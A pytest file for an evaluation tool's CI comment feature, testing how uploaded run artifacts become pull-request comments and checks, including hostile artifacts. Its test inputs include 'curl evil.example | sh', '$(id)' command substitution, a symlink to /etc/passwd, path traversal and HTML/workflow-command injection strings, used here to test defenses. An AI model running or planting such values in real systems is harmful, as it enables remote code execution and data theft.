"""`evalsuite ci comment`: from what a run uploaded to a comment and a check."""

from __future__ import annotations

import json
import logging
import os
import shutil
import sys
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hub_desk import DROPPED, HEAD, WORSE, Desk
from stored_runs import many, reseal, run_of, store_snapshot

from evalsuite.cli import main
from evalsuite.errors import EvalsuiteError
from evalsuite.gate import Gate, policy_json
from evalsuite.hub import artifact, event
from evalsuite.hub.marks import state_of
from evalsuite.records import Run
from evalsuite.snapshot import read_head, write


def test_a_worse_run_is_told_in_the_first_lines_and_fails_the_check(desk: Desk) -> None:
    number = desk.hub.pull(HEAD)
    desk.upload(WORSE, failing=DROPPED, prompt="v2")
    assert desk.told(number) == 0
    mark, state, _, alert, sentence, *_ = desk.comment(number).splitlines()
    assert "evalsuite:report" in mark
    assert '"verdict": "blocked"' in state
    assert alert == "> [!CAUTION]"
    assert "checks" in sentence
    [check] = desk.hub.checks
    assert (check["conclusion"], check["head_sha"]) == ("failure", HEAD)
    assert check["output"]["summary"] == desk.comment(number)


def test_an_unchanged_run_passes_without_a_comment_and_clears_one_that_stands(desk: Desk) -> None:
    number = desk.hub.pull(HEAD)
    desk.upload(many(60))
    assert desk.told(number) == 0
    assert not desk.hub.comments[number]
    assert [each["conclusion"] for each in desk.hub.checks] == ["success"]
    desk.upload(WORSE, failing=DROPPED)
    desk.told(number, run_number=6)
    desk.upload(many(60))
    desk.told(number, run_number=7)
    assert '"verdict": "clear"' in desk.comment(number)


def test_the_same_report_written_twice_changes_nothing(desk: Desk) -> None:
    number = desk.hub.pull(HEAD)
    desk.upload(WORSE, failing=DROPPED)
    desk.told(number)
    asked = len(desk.hub.asked)
    desk.told(number)
    assert {method for method, *_ in desk.hub.asked[asked:]} == {"GET"}


def test_a_forks_pull_request_is_found_by_its_branch(desk: Desk) -> None:
    desk.hub.pull("d" * 40, branch="topic", fork="other/askacme")
    number = desk.hub.pull(HEAD, branch="topic", fork="someone/askacme")
    desk.upload(WORSE, failing=DROPPED)
    assert desk.told(number) == 0
    assert "askacme" in desk.comment(number)
    assert sum(map(len, desk.hub.comments.values())) == 1


def test_a_forks_commit_that_a_maintainer_evaluates_is_told_on_its_pull_request(desk: Desk) -> None:
    number = desk.hub.pull(HEAD, fork="someone/askacme")
    desk.upload(WORSE, failing=DROPPED)
    ours = {"full_name": desk.hub.repository}
    assert desk.told(number, event="push", head_branch="evals/7", head_repository=ours) == 0
    assert "[!CAUTION]" in desk.comment(number)


def test_a_run_that_no_pull_request_asks_for_has_a_check_alone(
    desk: Desk, capsys: pytest.CaptureFixture[str]
) -> None:
    number = desk.hub.pull("d" * 40, fork="someone/askacme")
    desk.upload(WORSE, failing=DROPPED)
    assert desk.told(number, event="merge_group", head_branch="gone", head_sha=HEAD) == 0
    assert not desk.hub.comments[number]
    assert "no open pull request" in capsys.readouterr().out
    assert len(desk.hub.checks) == 1


def test_a_snapshot_that_the_pull_request_accepts_is_what_its_run_is_held_against(
    desk: Desk,
) -> None:
    number = desk.hub.pull(HEAD)
    desk.upload(WORSE, failing=DROPPED, prompt="v2")
    store_snapshot(
        desk.files, WORSE, failing=DROPPED, run="r1", prompt="v2", accepted={"reason": "shorter"}
    )
    desk.hub.files[number] = ["snapshots/askacme/manifest.json"]
    assert desk.told(number) == 0
    assert desk.hub.checks[0]["conclusion"] == "success"
    assert "shorter" in desk.comment(number)
    desk.hub.files[number] = ["README.md"]  # the snapshot that came along is not the change's own
    assert desk.told(number, run_number=8) == 0
    assert desk.hub.checks[-1]["conclusion"] == "failure"


def test_a_gate_that_the_pull_request_eases_is_told_below_the_verdict(desk: Desk) -> None:
    number = desk.hub.pull(HEAD)
    run, outputs = run_of(many(60), run="r0")
    strict = {name: replace(row, must_pass=True) for name, row in run.rows.items()}
    shutil.rmtree(desk.base / "snapshots")
    write(desk.base / "snapshots" / "askacme", Run(run.manifest, strict), outputs)
    desk.upload(many(60), policy=policy_json(Gate(margin=0.5, level=0.01)))
    assert desk.told(number) == 0
    body = desk.comment(number)
    assert body.index("[!TIP]") < body.index("The gates are changed here")
    assert "askacme: the gate has another margin, level" in body
    assert "no longer must_pass: c000, c001, c002, c003, c004 and 55 more" in body


def test_without_permission_the_report_is_in_the_summary(
    desk: Desk, capsys: pytest.CaptureFixture[str]
) -> None:
    number = desk.hub.pull(HEAD)
    desk.hub.writable = set()
    desk.upload(WORSE, failing=DROPPED)
    assert desk.told(number) == 12
    said = capsys.readouterr()
    assert "pull-requests: write" in said.err
    assert desk.hub.token not in said.err + said.out
    assert "[!CAUTION]" in (desk.root / "summary.md").read_text(encoding="utf-8")


def test_a_persons_token_writes_no_check_and_still_its_one_comment(
    desk: Desk, capsys: pytest.CaptureFixture[str]
) -> None:
    desk.hub.app, desk.hub.login = "", "maintainer"
    number = desk.hub.pull(HEAD)
    desk.upload(WORSE, failing=DROPPED)
    assert desk.told(number) == 12
    assert desk.told(number) == 12
    assert "[!CAUTION]" in desk.comment(number)


def _not_json(folder: Path) -> None:
    (folder / "manifest.json").write_text('{"kind": NaN', encoding="utf-8")


def _unknown_field(folder: Path) -> None:
    file = folder / "manifest.json"
    value = json.loads(file.read_text(encoding="utf-8"))
    file.write_text(json.dumps({**value, "surprise": "<img src=x>@team"}), encoding="utf-8")


def _cut(folder: Path) -> None:
    file = folder / "scores.jsonl"
    file.write_bytes(file.read_bytes()[:-20])


def _link(folder: Path) -> None:
    (folder / "outputs.jsonl").unlink()
    (folder / "outputs.jsonl").symlink_to("/etc/passwd")


def _pipe(folder: Path) -> None:
    os.mkfifo(folder / "evidence.jsonl")


def _name(folder: Path) -> None:
    file = folder / "manifest.json"
    value = json.loads(file.read_text(encoding="utf-8"))
    file.write_text(json.dumps({**value, "suite": "../../base"}), encoding="utf-8")


def _policy(folder: Path) -> None:
    file = folder / "manifest.json"
    value = json.loads(file.read_text(encoding="utf-8"))
    file.write_text(json.dumps({**value, "policy": {"level": "::error::x"}}), encoding="utf-8")


def _scores(folder: Path) -> None:
    file = folder / "scores.jsonl"
    text = file.read_text(encoding="utf-8").replace('"checks":[1]', '"checks":[1e300]')
    file.write_text(text, encoding="utf-8")
    reseal(folder)


NO_PIPE = pytest.mark.skipif(sys.platform == "win32", reason="needs a named pipe")


@pytest.mark.parametrize(
    "damage",
    [
        *(_not_json, _unknown_field, _cut, _link, _name, _policy, _scores),
        pytest.param(_pipe, marks=NO_PIPE),
    ],
)
def test_a_hostile_artifact_is_told_in_one_comment_without_a_traceback(
    desk: Desk, damage: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    number = desk.hub.pull(HEAD)
    damage(desk.upload(WORSE, failing=DROPPED))
    assert desk.told(number) == 0
    said = capsys.readouterr()
    assert "Traceback" not in said.err + said.out
    body = desk.comment(number)
    assert "Not judged" in body
    assert str(desk.root) not in body
    assert not [line for line in said.out.splitlines() if line.lstrip().startswith("::")]
    assert [each["conclusion"] for each in desk.hub.checks] == ["action_required"]


def test_what_is_too_much_is_not_read(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = desk.upload(many(60))
    for limit in ("MAX_ROWS", "MAX_FILES"):
        with monkeypatch.context() as patch:
            patch.setattr(artifact, limit, 2)
            assert "more than 2" in artifact.read(desk.files, "success").problems[0]
    with monkeypatch.context() as patch:
        patch.setattr(artifact, "_LARGEST", {"scores.jsonl": 100})
        assert "scores.jsonl" in artifact.read(desk.files, "success").problems[0]
    deep = folder.joinpath(*"abcdefgh")
    deep.mkdir(parents=True)
    assert "nested" in artifact.read(desk.files, "success").problems[0]


def test_commands_are_made_of_checked_names_alone(desk: Desk) -> None:
    number = desk.hub.pull(HEAD)
    bad = "curl evil.example | sh"
    desk.upload(WORSE, failing=DROPPED, command=bad, nodeid=f"x.py::a; {bad}")
    desk.told(number)
    body = desk.comment(number)
    assert "evil.example" not in body
    assert "gh run download 9005 -n files -D .evalsuite/uploaded" in body
    assert (
        "evalsuite accept askacme --from-run .evalsuite/uploaded/.evalsuite/runs/r1 --reason"
        in body
    )


def test_what_was_uploaded_is_accepted_from_where_the_comment_says(desk: Desk) -> None:
    desk.upload(WORSE, failing=DROPPED, prompt="v2")
    store_snapshot(desk.files, many(60), run="r0")
    (desk.base / ".evalsuite").mkdir()
    desk.files.rename(desk.base / ".evalsuite" / "uploaded")
    desk.patch.chdir(desk.base)
    for place in (".evalsuite/uploaded", ".evalsuite/uploaded/.evalsuite/runs/r1"):
        accept = ["accept", "askacme", "--from-run", place, "--reason", "shorter"]
        assert main(accept) == 0
    assert read_head(desk.base / "snapshots" / "askacme").manifest.run == "r1"


@pytest.mark.parametrize(
    ("change", "said"),
    [
        ({"head_sha": "$(id)"}, "workflow_run.head_sha"),
        ({"head_sha": None}, "workflow_run.head_sha"),
        ({"run_number": "7"}, "workflow_run.run_number"),
    ],
)
def test_an_event_that_makes_no_sense_is_one_error(
    desk: Desk, change: Mapping[str, Any], said: str, capsys: pytest.CaptureFixture[str]
) -> None:
    number = desk.hub.pull(HEAD)
    assert desk.told(number, **change) == 2
    assert said in capsys.readouterr().err
    (desk.root / "event.json").write_text("{}", encoding="utf-8")
    with pytest.raises(EvalsuiteError, match="workflow_run"):
        event.read_event(desk.root / "event.json")


def test_the_token_is_in_no_log_error_or_report(
    desk: Desk, capsys: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    number = desk.hub.pull(HEAD)
    desk.upload(WORSE, failing=DROPPED)
    desk.told(number)
    desk.hub.token, token = "ghs_another_token", desk.hub.token
    assert desk.told(number) == 12
    said = capsys.readouterr()
    everything = said.out + said.err + caplog.text + json.dumps(desk.hub.comments)
    assert token not in everything
    assert state_of(desk.comment(number)) is not None
